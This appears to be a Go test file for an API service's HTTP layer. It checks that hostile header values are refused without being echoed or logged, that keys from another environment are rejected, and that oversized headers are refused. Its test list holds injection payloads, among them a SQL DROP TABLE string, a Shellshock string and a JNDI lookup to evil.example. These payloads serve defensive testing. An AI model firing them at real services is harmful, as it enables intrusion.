package httpapi_test

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/levqor/sdk/levqor"
	"github.com/levqor/sdk/levqor/identity"
)

// hostile are values that nobody sends by accident. Each holds "evil", to be found where it
// should not be.
var hostile = []string{
	"evil\r\nSet-Cookie: evil=1", "evil\x00", "\xff\xfeevil", "evil\x1b[2J", `"><script>evil</script>`, "'; DROP TABLE levqor_identity_key; -- evil",
	"() { :; }; echo evil", "${jndi:ldap://evil.example/a}", "../../../../evil", "{{evil}}", "%0d%0aevil", "evil\u202e", strings.Repeat("evil", 8_000),
}

func TestHostileHeadersAreRefusedAndRevealNothing(t *testing.T) {
	s := newService(t)
	token := s.key("acme", "*")
	names := []string{
		"Authorization", "Host", "X-Request-Id", "Traceparent", "User-Agent", "Referer", "Cookie", "Origin", "Forwarded", "X-Forwarded-For",
		"X-Forwarded-Host", "X-Forwarded-Proto", "X-Original-Url", "X-Rewrite-Url", "X-Http-Method-Override", "Idempotency-Key", "If-Match",
		"If-None-Match", "Accept", "Accept-Language", "Content-Type", "Content-Encoding", "Range", "Expect", "Last-Event-Id",
	}
	statuses := map[int]int{}
	for _, name := range names {
		for _, value := range hostile {
			for _, method := range []string{http.MethodGet, http.MethodPost} {
				r := httptest.NewRequest(method, "/api/v1/jobs", strings.NewReader(mail))
				r.Header = http.Header{"Authorization": {"Bearer " + token}, "Content-Type": {"application/json"}, "Idempotency-Key": {fmt.Sprint(len(statuses), name, len(value))}}
				if r.Header.Set(name, value); name == "Host" {
					r.Host = value
				}
				w := httptest.NewRecorder()
				s.handler.ServeHTTP(w, r)
				statuses[w.Code]++
				if w.Code >= 500 || name == "Authorization" && w.Code != http.StatusUnauthorized {
					t.Errorf("%s with %s: %.50q gave %d", method, name, value, w.Code)
				}
				if answer := fmt.Sprint(w.Header(), w.Body); strings.Contains(answer, "evil") {
					t.Errorf("%s with %s: %.50q is answered with %s", method, name, value, answer)
				}
			}
		}
	}
	if statuses[429] != 0 || statuses[200] == 0 || statuses[400] == 0 || statuses[401] != 2*len(hostile) {
		t.Errorf("the statuses are %v", statuses)
	}
	if log := s.log.String(); strings.Contains(log, "evil") {
		t.Errorf("the log is %.500s", log)
	}
	recorded := 0
	for _, e := range s.events(identity.OwnerTenant) {
		if text := fmt.Sprintf("%+v", e); strings.Contains(text, "evil") {
			t.Errorf("the security log has %s", text)
		}
		recorded += e.Count
	}
	if recorded != 2*len(hostile) {
		t.Errorf("%d refusals are recorded, want %d", recorded, 2*len(hostile))
	}
}

func TestAKeyOfAnotherEnvironmentIsRefusedAndRecorded(t *testing.T) {
	s := newService(t)
	test, err := levqor.New(s.stores, &levqor.Options{Secret: bytes.Repeat([]byte("s"), 32), Environment: identity.Test})
	if err != nil {
		t.Fatal(err)
	}
	_, token, err := test.Keys.Create(t.Context(), identity.NewKey{Tenant: "acme", Name: "test", Scopes: []string{"*"}})
	if err != nil {
		t.Fatal(err)
	}
	if resp := s.do(request{method: "GET", path: "/api/v1/jobs", token: token}); resp.StatusCode != 401 || strings.Contains(fmt.Sprint(resp.Header), "environment") {
		t.Errorf("the answer is %d %v", resp.StatusCode, resp.Header)
	}
	want := []string{"access.denied failed by  on , 1 map[operation:GET /api/v1/jobs reason:other_environment]"}
	if got := say(s.events(identity.OwnerTenant)); !slices.Equal(got, want) {
		t.Errorf("the log is %q, want %q", got, want)
	}
}

func TestHeadersBeyondMeasureAreRefused(t *testing.T) {
	seen := make(chan string, 10)
	addr := serve(t, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { seen <- r.URL.Path }), nil)
	client := &http.Client{Timeout: time.Minute}
	for what, header := range map[string]http.Header{
		"one cookie":           {"Cookie": {"__Host-lvq_session=" + strings.Repeat("a", 100<<10)}},
		"ten thousand cookies": {"Cookie": {strings.Repeat("a=1234567; ", 10_000)}},
		"many lines":           {"Cookie": slices.Repeat([]string{"a=" + strings.Repeat("b", 1000)}, 100)},
	} {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://"+addr+"/", http.NoBody)
		if err != nil {
			t.Fatal(err)
		}
		r.Header = header
		resp, err := client.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge || len(body) > 100 || len(seen) != 0 {
			t.Errorf("%s: the answer is %d %q, and the handler was asked %d times", what, resp.StatusCode, body, len(seen))
		}
	}
}
